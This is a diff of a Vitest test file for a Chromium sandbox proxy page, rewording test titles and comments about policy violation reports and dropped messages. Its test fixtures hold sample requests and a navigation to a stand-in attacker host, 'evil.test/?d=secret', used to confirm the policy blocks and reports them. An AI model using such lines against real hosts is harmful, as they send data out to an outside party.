@@ -1,5 +1,5 @@
 // What the proxy page does between a host and a view, in a real Chromium: what it tells of the inside, what it answers itself, what
-// it never relays, and that it does nothing for anybody else.
+// it never relays, and that it does nothing for other windows.
 import { sandboxLabel } from '@vitrine/protocol';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { type HostPages, openHostPages } from '../../../../test/support/host-page.ts';
@@ -66,7 +66,7 @@ const say = (expression: string) =>
   `<script type="module">parent.postMessage({ method: 'said', params: { value: ${expression} } }, '*')</script>`;
 
 describe('what the policy stops', () => {
-  test('is told with its directive and target, by documents that scripts write as well', async () => {
+  test('is reported with its directive and target, by documents that scripts write as well', async () => {
     const { until, read, page } = await show(
       `<img src="https://evil.test/a.png"><script>try { eval('1') } catch {}; fetch('https://evil.test/b')</script>`,
     );
@@ -77,7 +77,7 @@ describe('what the policy stops', () => {
   });
 
   test.each(['go()', 'setTimeout(go)', 'onload = () => setTimeout(go)'])(
-    'is told when a view goes elsewhere, which ends it: %s',
+    'is reported when a view goes elsewhere, which ends it: %s',
     async when => {
       const { until, read, page } = await show(
         `<script>const go = () => { location.href = 'https://evil.test/?d=secret'; }; ${when}</script>`,
@@ -206,7 +206,7 @@ describe('sandbox-* messages', () => {
       </script>${say('1')}`,
     );
     await until(({ heard }) => heard.length === 1);
-    // `dropped` is the proxy's own word, said for what was dropped: the six of the parent, told at 1, 2 and 4.
+    // `dropped` is the proxy's own message, sent for what was dropped: the six of the parent, reported at 1, 2 and 4.
     expect(await read(kit => [kit.heard.map(({ method }) => method), kit.navigated, kit.dropped])).toEqual([
       ['said'],
       0,
